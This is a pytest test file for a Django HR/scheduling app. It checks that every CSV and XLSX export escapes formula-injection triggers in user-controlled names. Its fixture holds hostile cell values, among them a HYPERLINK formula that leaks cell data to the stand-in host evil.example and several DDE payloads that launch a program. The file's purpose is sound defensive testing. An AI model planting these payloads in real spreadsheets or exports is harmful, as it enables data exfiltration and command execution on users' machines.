"""Spreadsheet formula injection: names and texts a user controls never become live formulas
in any XLSX or CSV the product writes, and numbers stay numbers.

Every export endpoint is fetched with hostile names in the data; every cell of the file is
then checked the way a spreadsheet would read it. A structural test keeps new writers from
appearing outside the one cell rule (``ztk.core.spreadsheets.safe_cell``).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.reports.data import november
from ztk.accounts.services import api_key_create
from ztk.core.spreadsheets import safe_cell
from ztk.scheduling.models import Shift

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "employee": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "colleague": "+cmd|' /C calc'!A0",
    "stranger": "@SUM(1+1)*cmd|' /C calc'!A0",
    "department": "-2+3+cmd|' /C calc'!A0",
    "other_department": "\t=1+1",
    "group": "\r=1+1",
    "shift": "=1+2",
}


def is_live(value) -> bool:
    """What Excel or LibreOffice would evaluate: text whose first non-space is a trigger,
    unless the text is a plain number."""
    if not isinstance(value, str):
        return False
    stripped = value.lstrip(" \u3000")
    return stripped[:1] in TRIGGERS and not re.fullmatch(r"[+-]?\d+(?:\.\d+)?", stripped)


@pytest.fixture
def hostile(org):
    november(org)
    for who in ("employee", "colleague", "stranger"):
        person = getattr(org, who)
        person.name = HOSTILE[who]
        person.save(update_fields=["name"])
    org.department.name = HOSTILE["department"]
    org.department.save(update_fields=["name"])
    org.stranger.department.name = HOSTILE["other_department"]
    org.stranger.department.save(update_fields=["name"])
    org.group.name = HOSTILE["group"]
    org.group.save(update_fields=["name"])
    Shift.objects.filter(code="D9").update(name=HOSTILE["shift"])
    return org


def csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_csv(content: bytes, *, expect: list[str]) -> None:
    cells = csv_cells(content)
    assert [c for c in cells if is_live(c)] == []
    for text in expect:  # the data is still there, as text
        assert "'" + text in cells, text


def assert_no_live_xlsx(content: bytes, *, expect: list[str]) -> None:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if is_live(c.value)] == []
    values = {c.value for c in cells}
    for text in expect:  # XML stores a carriage return as a line feed
        assert "'" + text.replace("\r", "\n") in values, text
    # figures are still numbers, not text
    assert any(isinstance(c.value, int | float) and c.value > 0 for c in cells)


def client_for(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


PERIOD = {"period": "2026-11"}
NAMES = [HOSTILE["employee"], HOSTILE["colleague"], HOSTILE["stranger"]]
DEPARTMENTS = [HOSTILE["department"], HOSTILE["other_department"]]


@pytest.mark.django_db
@pytest.mark.urls("tests.reports.urls")
@pytest.mark.parametrize(
    ("file", "expect"),
    [
        ("csv", NAMES + DEPARTMENTS + [HOSTILE["group"]]),
        ("departments_csv", DEPARTMENTS),
        ("detail_csv", NAMES + DEPARTMENTS + [HOSTILE["shift"]]),
    ],
)
def test_report_csv_downloads_hold_no_live_formula(hostile, file, expect):
    response = client_for(hostile.hr.user).get("/reports/download/", {**PERIOD, "file": file})
    assert response.status_code == 200
    assert_no_live_csv(response.content, expect=expect)


@pytest.mark.django_db
@pytest.mark.urls("tests.reports.urls")
@pytest.mark.parametrize("lang", ["zh-hans", "en"])
def test_the_report_xlsx_holds_no_live_formula(hostile, lang):
    response = client_for(hostile.hr.user).get(
        "/reports/download/", {**PERIOD, "file": "xlsx", "lang": lang}
    )
    assert response.status_code == 200
    assert_no_live_xlsx(
        response.content, expect=NAMES + DEPARTMENTS + [HOSTILE["group"], HOSTILE["shift"]]
    )


@pytest.mark.django_db
@pytest.mark.urls("tests.reports.urls")
def test_the_payroll_api_csv_holds_no_live_formula(hostile):
    key = api_key_create(actor=None, user=hostile.hr.user, name="payroll")[1]
    response = Client().get(
        "/api/v1/reports/monthly",
        {**PERIOD, "format": "csv"},
        headers={"Authorization": f"Bearer {key}"},
    )
    assert response.status_code == 200
    assert_no_live_csv(response.content, expect=NAMES + DEPARTMENTS)


@pytest.mark.django_db
def test_the_import_templates_hold_no_live_formula(org):
    client = client_for(org.hr.user)
    assert_no_live_csv(client.get("/hr/desk/import/template.csv").content, expect=[])
    content = client.get("/hr/desk/import/template.xlsx").content
    assert [c.value for c in xlsx_cells(content) if is_live(c.value)] == []


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("-3", "-3"),
        ("-1.5", "-1.5"),
        ("+5", "+5"),
        (-3, -3),
        (-1.5, -1.5),
        (0, 0),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@given(st.text(max_size=30))
def test_safe_cell_never_leaves_a_live_formula_and_keeps_the_text(text):
    written = safe_cell(text)
    assert not is_live(written) or re.fullmatch(r"[+-]?\d+(?:[.,]\d+)*%?", written.strip())
    assert written in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_are_never_touched(number):
    assert safe_cell(number) is number


def test_every_spreadsheet_writer_goes_through_the_cell_rule():
    """A module that writes CSV or XLSX must be one whose cells are checked above; a new
    export has to use ztk.core.spreadsheets (csv_bytes / safe_row) and get a test here."""
    checked = {
        "ztk/core/spreadsheets.py",  # csv_bytes, the reader
        "ztk/reports/export.py",  # the report XLSX (safe_row in every row writer)
        "ztk/hrdesk/bulk_import.py",  # the import templates
    }
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|WriteOnlyCell\(|\.append\(\[")
    writers = set()
    for path in (ROOT / "ztk").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", text) and pattern.search(text):
            writers.add(str(path.relative_to(ROOT)))
    assert writers <= checked, writers - checked
